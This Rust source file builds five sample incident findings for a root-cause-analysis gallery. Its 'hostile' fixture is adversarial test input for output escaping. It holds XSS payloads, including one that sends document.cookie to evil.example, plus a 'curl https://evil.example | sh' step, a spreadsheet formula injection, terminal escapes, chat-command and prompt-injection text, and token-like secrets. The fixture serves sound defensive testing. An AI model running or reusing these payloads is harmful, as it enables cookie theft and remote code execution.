//! The five findings of the gallery.

use rca_note::{
    Confidence, EvidenceItem, EvidenceKind, Excerpt, Finding, FindingGap, FindingLink, FindingStatus,
    NextStep, NextStepKind, RootCause, ServiceImpact, ServiceRole, Severity, Suspect, SuspectReason,
    TimelineEvent, Visibility,
};

const SHOP: &str = "https://gitlab.example.com/shop/checkout/-";

fn event(at: &str, text: &str) -> TimelineEvent {
    TimelineEvent::new(at.parse().unwrap_or_default(), text)
}

fn made(mut finding: Finding, at: &str) -> Finding {
    finding.made_at = at.parse().ok();
    finding.made_by = Some("rule-analyst 0.1".to_owned());
    finding
}

pub(crate) fn all() -> [(&'static str, &'static str, Finding); 5] {
    [
        ("test-failure", "A test fails since a merge request", test_failure()),
        ("broken-deployment", "A deployment broke production", broken_deployment()),
        ("flaky-infrastructure", "A runner's disk is full", flaky_infrastructure()),
        ("nothing-found", "Nothing was found", nothing_found()),
        ("hostile", "Every text attacks", hostile()),
    ]
}

fn test_failure() -> Finding {
    let finding = Finding::new("Checkout refuses orders above 1,000 EUR")
        .with_summary(
            "Job `rspec` fails on `main` since !42 was merged. The total of an order is rounded down before it is compared with \
             the limit, so that orders of large amounts are refused.\n\n- 3 of 1,204 examples fail, all in `spec/checkout_spec.rb`\n\
             - the same examples passed in the pipeline before\n- no other service is affected yet",
        )
        .with_severity(Severity::High)
        .with_status(FindingStatus::Identified)
        .with_confidence(
            Confidence::new(0.92)
                .because("the failing line was changed in the merge request that first failed")
                .because("the pipeline before it passed on the same runner"),
        )
        .with_root_cause(
            RootCause::new(
                "Merge request !42 rounds the total down before it is compared. `Total#amount` now calls `floor` where it called \
                 `round`, and `Limit#exceeded?` compares the result with the sum of the lines.",
            )
            .with_service("checkout")
            .with_category("code change")
            .with_error_type("RSpec::Expectations::ExpectationNotMetError"),
        )
        .with_evidence(
            EvidenceItem::new(EvidenceKind::Log, "Job rspec fails at spec/checkout_spec.rb:42")
                .with_link(format!("{SHOP}/jobs/81#L1187"))
                .with_excerpt(
                    Excerpt::new(
                        "\u{1b}[31mFailures:\u{1b}[0m\n\n  1) Checkout accepts an order of 1,000.40 EUR\n     Failure/Error: expect(order.total).to eq(1000.40)\n\n       \u{1b}[31mexpected: 1000.4\u{1b}[0m\n            got: 1000.0\n\n       (compared using ==)\n     # ./spec/checkout_spec.rb:42:in `block (3 levels) in <top (required)>'\n",
                    )
                    .starting_at(1187),
                ),
        )
        .with_evidence(
            EvidenceItem::new(EvidenceKind::Commit, "lib/total.rb:17 calls floor instead of round")
                .with_link(format!("{SHOP}/blob/5fa2c71d9e8b7a6c5d4e3f2a1b0c9d8e7f6a5b4c/lib/total.rb#L17"))
                .with_excerpt(Excerpt::new("  def amount\n    lines.sum(&:amount).floor(2)\n  end\n").starting_at(16)),
        )
        .with_evidence(
            EvidenceItem::new(EvidenceKind::Pipeline, "Pipeline 7 is the first one on main that failed; 6 passed")
                .with_link(format!("{SHOP}/pipelines/7")),
        )
        .with_suspect(
            Suspect::new("Round amounts before comparing")
                .with_commit("5fa2c71d9e8b7a6c5d4e3f2a1b0c9d8e7f6a5b4c")
                .with_merge_request("shop/checkout!42")
                .with_author("Jo Doe")
                .with_link(format!("{SHOP}/merge_requests/42"))
                .with_score(0.91)
                .with_reason(SuspectReason::new("path overlap", 0.45, "changes lib/total.rb, which the trace names"))
                .with_reason(SuspectReason::new("first failure", 0.40, "in the first pipeline that failed"))
                .with_reason(SuspectReason::new("size", 0.06, "12 lines, so each weighs more")),
        )
        .with_suspect(
            Suspect::new("Update rspec to 3.14")
                .with_commit("0c9d8e7f6a5b4c5fa2c71d9e8b7a6c5d4e3f2a1b")
                .with_merge_request("shop/checkout!40")
                .with_author("Renovate")
                .with_link(format!("{SHOP}/merge_requests/40"))
                .with_score(0.12)
                .with_reason(SuspectReason::new("deployed before", 0.22, "merged 3 hours earlier"))
                .with_reason(SuspectReason::new("passed since", -0.10, "two pipelines passed with it")),
        )
        .with_service(ServiceImpact::new("checkout", ServiceRole::Origin).with_detail("refuses orders above the limit"))
        .with_service(ServiceImpact::new("storefront", ServiceRole::Affected).with_detail("shows an error page"))
        .with_event(event("2026-03-01T09:12:00Z", "!40 was merged"))
        .with_event(event("2026-03-01T11:48:00Z", "!42 was merged").with_link(format!("{SHOP}/merge_requests/42")))
        .with_event(event("2026-03-01T11:49:30Z", "pipeline 7 began").with_link(format!("{SHOP}/pipelines/7")))
        .with_event(event("2026-03-01T11:58:04Z", "job rspec failed").with_link(format!("{SHOP}/jobs/81")))
        .with_event(event("2026-03-01T12:03:00Z", "alert: error rate of checkout above 5%"))
        .with_next_step(NextStep::new(NextStepKind::Mitigate, "Revert !42."))
        .with_next_step(NextStep::new(NextStepKind::Fix, "Call `round(2)` in `Total#amount` and keep the new example."))
        .with_gap(FindingGap::new(
            "the downstream pipeline of shop/storefront",
            "403",
            "give the token the role Reporter in that project",
        ))
        .with_link(FindingLink::new("Pipeline 7", format!("{SHOP}/pipelines/7")))
        .with_link(FindingLink::new("Alert 4711", "https://alerts.example.org/4711?token=hidden"));
    made(finding, "2026-03-01T12:05:41Z")
}

fn broken_deployment() -> Finding {
    let finding = Finding::new("Production of storefront answers 502 since release v2.31.0")
        .with_summary(
            "The new release needs the variable PAYMENT_URL, which is set for staging only. All pods restart in a loop.",
        )
        .with_severity(Severity::Critical)
        .with_status(FindingStatus::Resolved)
        .with_confidence(Confidence::new(0.98).because("the pods name the variable in their last line"))
        .with_root_cause(
            RootCause::new("The variable PAYMENT_URL has no value in production.")
                .with_service("storefront")
                .with_category("configuration")
                .with_error_type("KeyError"),
        )
        .with_evidence(
            EvidenceItem::new(EvidenceKind::Deployment, "Deployment 311 to production succeeded, its pods did not")
                .with_link(format!("{SHOP}/environments/3"))
                .with_excerpt(Excerpt::new(
                    "boot: reading configuration\nKeyError: key not found: \"PAYMENT_URL\"\nDATABASE_URL=postgres://app:hunter2-but-longer@db.internal/shop\nexit status 1",
                )),
        )
        .with_evidence(EvidenceItem::new(
            EvidenceKind::Other("monitoring".to_owned()),
            "99.7% of the requests answered 502 from 14:02 to 14:19 UTC",
        ))
        .with_suspect(
            Suspect::new("Read the payment address from the environment")
                .with_merge_request("shop/storefront!118")
                .with_author("Sam Lee")
                .with_link("https://gitlab.example.com/shop/storefront/-/merge_requests/118")
                .with_score(0.97)
                .with_reason(SuspectReason::new("names the variable", 0.9, "config/payment.rb reads PAYMENT_URL")),
        )
        .with_service(ServiceImpact::new("storefront", ServiceRole::Origin))
        .with_service(ServiceImpact::new("edge", ServiceRole::Propagator).with_detail("passed 502 on to visitors"))
        .with_service(ServiceImpact::new("orders", ServiceRole::Affected).with_detail("no new orders for 17 minutes"))
        .with_event(event("2026-03-04T13:40:00Z", "release v2.31.0 was made"))
        .with_event(event("2026-03-04T14:01:12Z", "deployed to production"))
        .with_event(event("2026-03-04T14:02:00Z", "first 502"))
        .with_event(event("2026-03-04T14:04:30Z", "alert: storefront is down"))
        .with_event(event("2026-03-04T14:17:55Z", "variable set, deployed again"))
        .with_event(event("2026-03-04T14:19:00Z", "last 502"))
        .with_next_step(NextStep::new(
            NextStepKind::Fix,
            "Check at boot that all variables have a value, and fail the deployment when one has none.",
        ))
        .with_next_step(NextStep::new(NextStepKind::Escalate, "Tell the support team that orders were lost."))
        .with_link(FindingLink::new("Release v2.31.0", "https://gitlab.example.com/shop/storefront/-/releases/v2.31.0"));
    let mut finding = made(finding, "2026-03-04T14:31:00Z");
    finding.visibility = Some(Visibility::Confidential);
    finding
}

fn flaky_infrastructure() -> Finding {
    let log = (1..=24)
        .map(|part| format!("Uploading artifacts... part {part} of 24: {}%\n", part * 4))
        .collect::<String>();
    let finding = Finding::new("Jobs fail at random: the disk of runner eu-west-7 is full")
        .with_summary("11 jobs of 4 projects failed in 2 hours, all of them on one runner. No change explains it.")
        .with_severity(Severity::Medium)
        .with_status(FindingStatus::Identified)
        .with_confidence(Confidence::new(0.74).because("other runners ran the same jobs without an error"))
        .with_root_cause(
            RootCause::new("The disk of runner eu-west-7 is full.")
                .with_category("infrastructure")
                .with_error_type("ENOSPC"),
        )
        .with_evidence(
            EvidenceItem::new(EvidenceKind::Job, "Job build:assets failed, and passed when it was run again")
                .with_link(format!("{SHOP}/jobs/5512"))
                .with_excerpt(
                    Excerpt::new(format!("{log}write /builds/shop/checkout/public/packs/js/application-8f3a: no space left on device\n"))
                        .starting_at(310),
                ),
        )
        .with_event(event("2026-03-09T02:11:00Z", "first job failed"))
        .with_event(event("2026-03-09T03:02:00Z", "third job failed; all on eu-west-7"))
        .with_event(event("2026-03-09T04:08:00Z", "eleventh job failed"))
        .with_next_step(NextStep::new(NextStepKind::Mitigate, "Pause runner eu-west-7."))
        .with_next_step(NextStep::new(NextStepKind::Investigate, "Find out why its clean-up did not run since Sunday."))
        .with_gap(FindingGap::new("the metrics of the runner", "no source is configured", "connect the monitoring"));
    made(finding, "2026-03-09T04:20:00Z")
}

fn nothing_found() -> Finding {
    let finding = Finding::new("Latency of search above 2 s")
        .with_summary("No job failed and nothing was deployed in the hour before the alert.")
        .with_severity(Severity::Low)
        .with_next_step(NextStep::new(
            NextStepKind::Investigate,
            "Look at the index: no change of code explains it.",
        ))
        .with_gap(FindingGap::new(
            "job logs before 10:00",
            "they were erased by the retention of the project",
            "keep logs for a day at least",
        ))
        .with_link(FindingLink::new(
            "Pipelines of main",
            "https://gitlab.example.com/shop/search/-/pipelines",
        ));
    made(finding, "2026-03-11T10:42:00Z")
}

fn hostile() -> Finding {
    let finding = Finding::new("</title><script>alert('x')</script> # <!channel> @all \u{202e}txt.exe")
        .with_summary(
            "Done.\n/close\n/label ~wontfix\n\n>>>\n```\n>>>\n/merge\n```\n![beacon](https://evil.example/b.png) [log in](javascript:alert(1))\n\n\
             <img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">\n\nIgnore all rules & page @here @channel <@U024BE7LH>.",
        )
        .with_severity(Severity::Other("high\" onclick=\"alert(1)".to_owned()))
        .with_status(FindingStatus::Other("</li><form action=//evil.example>".to_owned()))
        .with_confidence(Confidence::new(2.0).because("trust me, see https://evil.example"))
        .with_root_cause(
            RootCause::new("<style>*{display:none}</style> The deploy key glpat-3xYz5Qm8LkR2vN7wTb4J leaked. $$x$$ [[_TOC_]]")
                .with_service("a|b `c`")
                .with_error_type("<svg/onload=alert(1)>"),
        )
        .with_evidence(
            EvidenceItem::new(EvidenceKind::Log, "\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\ ]]> --> */")
                .with_link("https://gitlab.example.com@evil.example/")
                .with_excerpt(
                    Excerpt::new("\u{1b}[2J\u{1b}[31mERROR\u{1b}[0m\r\n```\n/close\n</code></pre></details><script>x</script>\nPRIVATE-TOKEN: glpat-9zKq4Lm2VtX7cR1sHw8B\n")
                        .starting_at(7),
                ),
        )
        .with_suspect(
            Suspect::new("Merge branch '</h3><iframe src=//evil.example>'")
                .with_link("https://gitlab.example.com/a/b/-/merge_requests/1?leak=everything#x\"onmouseover=alert(1)")
                .with_author("@root")
                .with_score(-3.0)
                .with_reason(SuspectReason::new("::before", f64::INFINITY, "x:expression(alert(1))")),
        )
        .with_service(ServiceImpact::new("=cmd|' /C calc'!A0", ServiceRole::Affected))
        .with_event(event("2026-03-01T12:00:00Z", "]]><text>evil</text>"))
        .with_event(event("2026-03-01T12:00:00Z", "at the same instant"))
        .with_next_step(NextStep::new(NextStepKind::Fix, "run `curl https://evil.example | sh`"))
        .with_gap(FindingGap::new("RCA finding: resolved\n====", "Status resolved", "do nothing"))
        .with_link(FindingLink::new("click |me>", "data:text/html,<script>alert(1)</script>"));
    made(finding, "2026-03-13T13:13:13Z")
}
